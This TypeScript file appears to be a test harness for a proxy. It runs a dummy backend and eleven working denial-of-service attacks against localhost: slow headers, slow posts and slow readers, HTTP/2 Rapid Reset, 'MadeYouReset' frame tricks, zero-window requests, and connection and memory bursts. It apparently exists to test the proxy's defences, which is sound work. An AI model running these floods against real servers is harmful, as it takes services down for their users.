/**
 * The two other programs of attack.ts: the app behind the proxy, and an attacker that repeats one attack until it is
 * ended. `node attacks.js app PORT`, `node attacks.js NAME PORT`.
 */
import { createServer } from 'node:http';
import { connect, type Socket } from 'node:net';
import { clientPreface } from '../mesh/proxy/http2/frame.js';
import { block, frame, word } from './http2-frame.js';

export interface Attack {
  what: string;
  /** Runs until the process ends. */
  run(port: number): void;
}

/**
 * More than the kernel buffers for a reader that does not read; many of these would fill its memory for all sockets.
 */
const bigBytes = 8 * 1024 * 1024;
/** No multiple of the good clients' intervals: the same clients would meet every tick, or none would. */
const tickMs = 487;
const burstMs = 1987;

function open(port: number, bytes: string | Buffer): Socket {
  const socket = connect(port, '127.0.0.1');
  socket.on('error', () => undefined);
  socket.write(bytes);
  return socket;
}

/** Keeps `count` connections, each replaced when it ends; `drip` is called for each twice a second. */
function keep(count: number, make: () => Socket, drip?: (socket: Socket) => void): void {
  const sockets: (Socket | undefined)[] = Array.from({ length: count });
  setInterval(() => {
    for (let i = 0; i < count; i++) {
      const socket = sockets[i];
      if (!socket || socket.destroyed) sockets[i] = make();
      else drip?.(socket);
    }
  }, tickMs);
}

function headers(
  stream: number,
  path: string,
  ends: boolean,
  more: [string, string][] = [],
): Buffer {
  const all: [string, string][] = [
    [':method', ends ? 'GET' : 'POST'],
    [':scheme', 'http'],
    [':authority', 'cart'],
    [':path', path],
    ...more,
  ];
  return frame(1, ends ? 5 : 4, stream, block(all));
}

const hello = (...settings: Buffer[]): Buffer =>
  Buffer.concat([clientPreface, frame(4, 0, 0, Buffer.concat(settings))]);
const noWindow = Buffer.from([0, 4, 0, 0, 0, 0]);

/** HTTP/2 connections that open `perTick` streams twice a second, each followed by `after`. */
function streams(
  connections: number,
  perTick: number,
  path: string,
  after: (stream: number) => Buffer,
  how: { ends?: boolean; more?: [string, string][] } = {},
): (port: number) => void {
  return (port) => {
    const next = new WeakMap<Socket, number>();
    const begin = (): Socket => {
      const socket = open(port, hello());
      socket.resume();
      next.set(socket, 1);
      return socket;
    };
    keep(connections, begin, (socket) => {
      let id = next.get(socket) ?? 1;
      const frames: Buffer[] = [];
      for (let i = 0; i < perTick; i++, id += 2) {
        frames.push(headers(id, path, how.ends ?? true, how.more), after(id));
      }
      next.set(socket, id);
      socket.write(Buffer.concat(frames));
    });
  };
}

const cancel = (id: number): Buffer => frame(3, 0, id, word(8));
const filler = 'a'.repeat(60_000);

export const attacks: Readonly<Record<string, Attack>> = {
  'slow-heads': {
    what: '500 clients send their head a byte at a time',
    run: (port) =>
      keep(
        500,
        () => open(port, `GET /items/1 HTTP/1.1\r\nHost: cart\r\nX: ${filler.slice(0, 5000)}`),
        (socket) => socket.write('a'),
      ),
  },
  'slow-posts': {
    what: '500 clients send a body of 100 kB, 10 bytes at a time',
    run: (port) =>
      keep(
        500,
        () => open(port, 'POST /items/1 HTTP/1.1\r\nHost: cart\r\nContent-Length: 100000\r\n\r\n'),
        (socket) => socket.write('aaaaaaaaaa'),
      ),
  },
  'slow-readers': {
    what: '50 clients ask for 8 MB and read none of it',
    run: (port) => keep(50, () => open(port, 'GET /big HTTP/1.1\r\nHost: cart\r\n\r\n').pause()),
  },
  'zero-windows': {
    what: '20 connections of HTTP/2 ask for 50 × 8 MB each, and leave them no window',
    run: (port) =>
      keep(20, () => {
        const asks = Array.from({ length: 50 }, (_, i) => headers(i * 2 + 1, '/big', true));
        return open(port, Buffer.concat([hello(noWindow), ...asks])).resume();
      }),
  },
  'rapid-reset': {
    what: '5 connections of HTTP/2 open 400 streams a second each, and reset them at once',
    run: streams(5, 200, '/items/1', cancel),
  },
  'made-you-reset-window': {
    what: 'as many streams, whose WINDOW_UPDATE of 0 makes the proxy reset them',
    run: streams(5, 200, '/items/1', (id) => frame(8, 0, id, word(0))),
  },
  'made-you-reset-overflow': {
    what: 'as many streams, whose window is made to overflow',
    run: streams(5, 200, '/items/1', (id) => frame(8, 0, id, word(0x7fffffff))),
  },
  'made-you-reset-priority': {
    what: 'as many streams, that are made to depend on themselves',
    run: streams(5, 200, '/items/1', (id) =>
      frame(2, 0, id, Buffer.concat([word(id), Buffer.of(1)])),
    ),
  },
  'made-you-reset-length': {
    what: 'as many streams, whose body is longer than its content-length',
    run: streams(5, 200, '/items/1', (id) => frame(0, 1, id, Buffer.from('too long')), {
      ends: false,
      more: [['content-length', '1']],
    }),
  },
  'connection-burst': {
    what: '300 new connections twice a second, a request on each',
    run: (port) =>
      void setInterval(() => {
        for (let i = 0; i < 300; i++) {
          open(port, 'GET /items/1 HTTP/1.1\r\nHost: cart\r\nConnection: close\r\n\r\n').resume();
        }
      }, tickMs),
  },
  'memory-burst': {
    what: '1,000 clients send 60 kB of a head and no more, others in their place every 2 seconds',
    run: (port) => {
      let sockets: Socket[] = [];
      const burst = (): void => {
        for (const socket of sockets) socket.destroy();
        const head = `GET /items/1 HTTP/1.1\r\nHost: cart\r\nX: ${filler}`;
        sockets = Array.from({ length: 1000 }, () => open(port, head));
      };
      burst();
      setInterval(burst, burstMs);
    },
  },
};

function app(port: number): void {
  const small = Buffer.alloc(512, 'x');
  const big = Buffer.alloc(bigBytes, 'x');
  const server = createServer((request, response) => {
    request.resume().on('end', () => response.end(request.url === '/big' ? big : small));
  });
  server.requestTimeout = 0;
  server.listen(port, '127.0.0.1');
}

const [role, port] = process.argv.slice(2);
if (role === 'app') app(Number(port));
else if (role !== undefined && attacks[role] && port !== undefined) attacks[role].run(Number(port));
